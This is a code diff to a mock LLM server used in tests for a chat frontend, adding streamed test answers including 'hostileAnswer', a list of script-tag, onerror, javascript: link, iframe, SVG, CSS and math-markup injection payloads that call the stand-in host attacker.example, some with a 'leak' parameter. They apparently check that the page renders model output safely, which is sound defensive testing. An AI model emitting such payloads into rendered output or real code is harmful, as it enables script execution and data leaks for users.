@@ -72,9 +72,77 @@ const refuse =
       .end(JSON.stringify({ error: { message: `${code} said the server`, type: code, code } }));
   };
 
+/** Words that a reader can count: a lost or doubled piece shows. */
+export const countedWords = Array.from({ length: 80 }, (_, at) => `w${at + 1} `);
+
+/** Markdown with every shape that an answer may have. */
+export const markdownAnswer = [
+  '## Three ways to pay\n\n',
+  '| Way | Fee |\n| --- | ---: |\n| Card | 1.2 % |\n| Transfer | none |\n\n',
+  'The fee is $f = 0.012 \\cdot p$, so:\n\n',
+  '```ts\nconst fee = (price: number) => price * 0.012;\n```\n\n',
+  '- **Card** is instant\n- Transfer takes `2` days\n',
+];
+
+/** What a hostile model or document would say; each line would run or call home if the page believed it. */
+export const hostileAnswer = (home: string): readonly string[] => [
+  'Before. <script>globalThis.attacked = 1; fetch("',
+  `${home}/script")</script>\n\n`,
+  `<img src="${home}/tag.png" onerror="globalThis.attacked = 2">\n\n`,
+  `![pixel](${home}/markdown.png?leak=1)\n\n`,
+  '[run me](javascript:globalThis.attacked=3)\n\n',
+  '[open me](data:text/html,<script>globalThis.attacked=4</script>)\n\n',
+  `<iframe src="${home}/frame"></iframe>\n\n<svg onload="globalThis.attacked=5"></svg>\n\n`,
+  `<style>body{background:url(${home}/style.png)}</style>\n\n`,
+  '$\\href{javascript:globalThis.attacked=6}{x}$ $\\includegraphics{',
+  `${home}/math.png}$\n\nAfter.`,
+];
+
+/** Streams pieces one after another, with a pause between them. */
+const tell =
+  (pieces: readonly string[], pauseMs: number): Behaviour =>
+  (call, response) => {
+    response.writeHead(200, { 'content-type': 'text/event-stream' });
+    response.write(chunk({ role: 'assistant', content: '' }));
+    let at = 0;
+    const timer = setInterval(() => {
+      const content = pieces[at];
+      at += 1;
+      if (content !== undefined) {
+        response.write(chunk({ content }));
+        return;
+      }
+      clearInterval(timer);
+      response.write(chunk({}, 'stop'));
+      response.write(usageChunk(upstreamUsage));
+      response.end('data: [DONE]\n\n');
+      call.finished = true;
+    }, pauseMs);
+    response.once('close', () => clearInterval(timer));
+  };
+
+/** The last thing a person said. */
+function lastQuestion(call: UpstreamCall): string {
+  const messages = call.body.messages as readonly { readonly role: string; readonly content: unknown }[];
+  const content = messages.findLast(({ role }) => role === 'user')?.content;
+  return typeof content === 'string' ? content : JSON.stringify(content);
+}
+
+/** One model that does what the question's words ask for, as a chat needs; asked anything else it says the question back. */
+const obeys: Behaviour = (call, response) => {
+  const question = lastQuestion(call);
+  if (!call.body.stream) return answer(call, response);
+  if (/\bcount\b/i.test(question)) return tell(countedWords, 40)(call, response);
+  if (/\bforever\b/i.test(question)) return behaviours.slow?.(call, response);
+  if (/\bmarkdown\b/i.test(question)) return tell(markdownAnswer, 5)(call, response);
+  if (/\battack\b/i.test(question)) return tell(hostileAnswer('http://attacker.example'), 5)(call, response);
+  return tell([`You said: ${question.split('\n').at(-1)}`], 5)(call, response);
+};
+
 /** Model name → what the server does. */
 const behaviours: Readonly<Record<string, Behaviour>> = {
   scripted: (call, response) => answer(call, response),
+  obeys,
   lying: (call, response) => answer(call, response, { prompt_tokens: -5, completion_tokens: 1e15, total_tokens: 3 }),
   silent: (call, response) => answer(call, response, null),
   stalled: () => {},
